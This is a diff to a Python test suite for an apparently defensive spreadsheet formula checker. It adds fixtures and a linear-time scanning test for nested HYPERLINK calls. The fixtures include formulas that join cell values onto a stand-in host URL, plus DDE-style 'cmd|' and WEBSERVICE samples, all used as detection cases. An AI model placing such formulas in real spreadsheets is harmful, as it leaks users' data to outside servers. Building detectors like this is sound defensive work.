@@ -6,6 +6,7 @@ from checks_world import checked
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tracker.checks import calls
 from tracker.checks.calls import becomes_formula, calls_out, may_begin_formula
 from tracker.checks.look import Look
 from tracker.schema.base import BASE
@@ -43,6 +44,8 @@ OUT = {
         'HYPERLINK("http://x.example/"&A1)',
         'IF(A1="","",HYPERLINK(CONCATENATE("https://x.example/",B1),"x"))',
         'HYPERLINK("\\\\server\\"&A1,"x")',
+        'HYPERLINK(HYPERLINK("https://x.example/"&A1,"a"),"b")',
+        """HYPERLINK('My "Sheet'!A1&"https://x.example/","b")""",
     ],
     "": [
         "SUM(A1:A3)",
@@ -60,6 +63,8 @@ OUT = {
         'IF(A1="cmd|x!y",1)',
         "CALLER(1)",
         "RECALL(1)",
+        'HYPERLINK("#A1","x")&"http://x.example/"&A1',
+        'HYPERLINK("https://x.example/"&"a b","x")&HYPERLINK("#"&A1)',
         '_xlfn.CONCAT(A1,"WEBSERVICE(")',
     ],
 }
@@ -123,3 +128,20 @@ C3          | Okoro     | o@b.example | Anna  | =A1 -> 5
         ("S103", 3, "Price", "=[1]P!A1"),
     ]
     assert all(one.details == {"trouble": load().at("call", "other")} for one in found)
+
+
+@pytest.mark.parametrize("part", ["HYPERLINK(", "HYPERLINK(A&", "HYPERLINK(CONCATENATE(", 'HYPERLINK("http://x"&A1,'])
+def test_links_in_links_are_looked_at_once(part):
+    """The formula is walked through once, and each link judged by where it begins and ends."""
+    steps = []
+
+    class Letters(str):
+        def __iter__(self):
+            for letter in str.__iter__(self):
+                steps.append(1)
+                yield letter
+
+    formula = Letters(part * 500)
+    spans = list(calls._links(formula))
+    assert len(spans) >= 499 and len(steps) == len(formula)
+    assert all(isinstance(start, int) for start, _ in spans)  # no copy of what follows each
